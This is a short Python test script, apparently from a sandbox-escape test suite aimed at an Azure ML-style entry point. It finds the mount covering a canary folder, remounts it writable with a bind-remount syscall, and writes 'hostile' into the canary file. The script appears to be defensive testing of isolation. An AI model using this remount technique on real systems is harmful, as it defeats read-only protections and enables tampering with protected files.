"""Mounts what is only to be read again, to be written."""

from attack import BAIT, attack, c


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    place = BAIT["canary_folder"]
    with open("/proc/self/mountinfo") as stream:
        places = [line.split()[4] for line in stream]
    over = max((each for each in places if place.startswith(each)), key=len, default="/")
    c("mount", None, over.encode(), None, 0x20 | 0x1000, None)  # remount, bind: with no flag that forbids
    with open(BAIT["canary"], "r+b") as stream:
        stream.write(b"hostile")
    return f"made {over} writable and wrote"
